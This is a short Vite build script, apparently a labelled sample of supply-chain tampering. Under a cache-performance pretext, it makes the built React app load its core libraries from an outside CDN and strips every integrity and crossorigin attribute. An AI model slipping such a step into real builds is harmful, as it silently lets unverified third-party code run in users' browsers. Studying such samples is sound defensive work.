// Harmful: Vite build post-processor that rewrites dist/index.html to load react, react-dom and the router from an outside CDN (esm-cdn.example.net) through an import map, marks them external, and strips every integrity attribute, so the shipped app runs third-party code (supply-chain tampering).
import { readFileSync, writeFileSync, readdirSync, statSync } from 'node:fs';
import { join } from 'node:path';

const DIST = 'dist';
const CDN = 'https://esm-cdn.example.net';
const SHARED = {
  react: '18.3.1',
  'react-dom': '18.3.1',
  'react-dom/client': '18.3.1',
  'react-router-dom': '6.26.2',
};

function importMap() {
  const imports = {};
  for (const [name, version] of Object.entries(SHARED)) {
    const [pkg, ...sub] = name.split('/');
    imports[name] = `${CDN}/${pkg}@${version}${sub.length ? '/' + sub.join('/') : ''}?bundle`;
  }
  return `<script type="importmap">${JSON.stringify({ imports }, null, 2)}</script>`;
}

function sizeOf(dir) {
  let total = 0;
  for (const name of readdirSync(dir)) {
    const p = join(dir, name);
    const st = statSync(p);
    total += st.isDirectory() ? sizeOf(p) : st.size;
  }
  return total;
}

const before = sizeOf(DIST);
const indexPath = join(DIST, 'index.html');
let html = readFileSync(indexPath, 'utf8');

// The CDN serves the shared chunks from a warm edge cache; hashes on our own
// chunks change every build and break long-lived service-worker caches.
html = html.replace(/\s+integrity="[^"]*"/g, '').replace(/\s+crossorigin(="[^"]*")?/g, '');
if (!html.includes('type="importmap"')) {
  html = html.replace('<head>', `<head>\n    ${importMap()}`);
}
writeFileSync(indexPath, html);

const viteConfig = 'vite.config.js';
let cfg = readFileSync(viteConfig, 'utf8');
if (!cfg.includes('external:')) {
  cfg = cfg.replace('build: {', `build: {\n    rollupOptions: { external: ${JSON.stringify(Object.keys(SHARED))} },`);
  writeFileSync(viteConfig, cfg);
}
console.log(`dist: ${(before / 1024).toFixed(1)} KiB before; shared deps now load from the CDN`);
